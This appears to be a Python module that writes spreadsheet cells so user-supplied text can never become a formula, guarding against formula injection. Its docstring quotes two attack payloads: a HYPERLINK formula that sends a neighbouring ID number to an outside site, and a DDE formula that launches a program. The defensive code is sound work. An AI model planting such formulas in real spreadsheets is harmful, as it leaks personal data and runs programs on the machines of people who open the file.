"""Writing spreadsheets that are safe to open: text from users never becomes a formula.

Excel, WPS and LibreOffice run a cell whose text starts with = + - or @ (a tab or carriage
return in front works the same once the cell is edited): `=HYPERLINK("http://…?d="&D3,"点击查看")`
in a name sends the ID number beside it to another site when clicked, and `=cmd|' /C calc'!A0`
starts a program through DDE. openpyxl itself turns any text starting with "=" into a formula.

Every cell the product writes from stored or uploaded data goes through `write_cell`,
`text_cell` or `append_row`: text is written as a text cell (never a formula, whatever it starts
with), and text starting with a formula trigger also carries the cell's quote prefix, which is
what Excel records when someone types a leading apostrophe: shown without the apostrophe, kept
as text when the cell is edited. The text itself is not changed, so a value copied back from an
error workbook or chosen from a template's drop-down imports as it was. Numbers, dates and
booleans stay what they are, since they cannot be formulas. Use these for every workbook the
product writes (error workbooks, templates, exports).
"""

import datetime
from collections.abc import Iterable
from decimal import Decimal

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell

# Half-width and full-width: spreadsheet programs in Chinese locales accept both.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
MAX_CELL_TEXT = 32_767  # Excel refuses to open a workbook with a longer cell
_NOT_TEXT = (bool, int, float, Decimal, datetime.date, datetime.time, datetime.timedelta)


def cell_value(value: object) -> object:
    """`value` as it may be written to a cell: None, a number, a date or a boolean unchanged,
    anything else as text a workbook can hold (no control characters, not too long)."""
    if value is None or isinstance(value, _NOT_TEXT):
        return value
    return ILLEGAL_CHARACTERS_RE.sub("", str(value))[:MAX_CELL_TEXT]


def write_cell(sheet, *, row: int, column: int, value: object) -> Cell:
    """Set one cell of a worksheet to `value`, neutralised and typed as text if it is text."""
    cell = sheet.cell(row=row, column=column)
    _assign(cell, value)
    return cell


def text_cell(sheet, value: object) -> Cell:
    """A cell to pass to `sheet.append` (write-only worksheets included), neutralised."""
    cell = WriteOnlyCell(sheet)
    _assign(cell, value)
    return cell


def append_row(sheet, values: Iterable[object]) -> None:
    """`sheet.append(values)` with every value neutralised."""
    sheet.append([text_cell(sheet, value) for value in values])


def _assign(cell: Cell, value: object) -> None:
    safe = cell_value(value)
    cell.value = safe
    if isinstance(safe, str):
        # openpyxl types "=…" as a formula and "#N/A"-like text as an error; it is only text.
        cell.data_type = "s"
        if safe.startswith(FORMULA_TRIGGERS):
            cell.quotePrefix = True
